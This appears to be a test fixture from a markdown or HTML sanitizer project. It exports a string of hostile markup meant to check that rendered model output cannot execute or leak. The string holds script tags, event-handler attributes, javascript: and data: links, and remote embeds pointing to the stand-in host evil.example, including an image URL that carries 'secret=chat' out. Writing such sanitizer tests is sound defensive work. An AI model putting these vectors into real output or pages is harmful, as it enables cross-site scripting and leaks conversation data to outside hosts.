/** What a model could be talked into writing: everything here would run, load or lead elsewhere if it were let. */
export const hostileText = `# Hello

<script>window.__executed = "script"</script>
<img src="https://evil.example/pixel.png" onerror="window.__executed = 'onerror'">
<svg onload="window.__executed = 'svg'"></svg>
<iframe src="https://evil.example/frame"></iframe>
<style>@import url("https://evil.example/style.css"); body { background: url("https://evil.example/bg.png") }</style>
<link rel="stylesheet" href="https://evil.example/link.css">
<base href="https://evil.example/">
<form action="https://evil.example/post"><button>Send</button></form>
<details open ontoggle="window.__executed = 'toggle'">x</details>

![tracking](https://evil.example/leak.png?secret=chat)
![inline](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)

[click](javascript:window.__executed='link') and [data](data:text/html,<script>window.__executed='data'</script>)
and [a real link](https://example.org/page) and <https://evil.example/auto> and https://evil.example/bare

[ref]: javascript:window.__executed='ref'
[text][ref]

\`\`\`html
<script>window.__executed = "code"</script>
\`\`\`

$$\\href{javascript:window.__executed='math'}{x} \\includegraphics{https://evil.example/math.png} \\url{https://evil.example}$$

The end of the hostile text.
`;
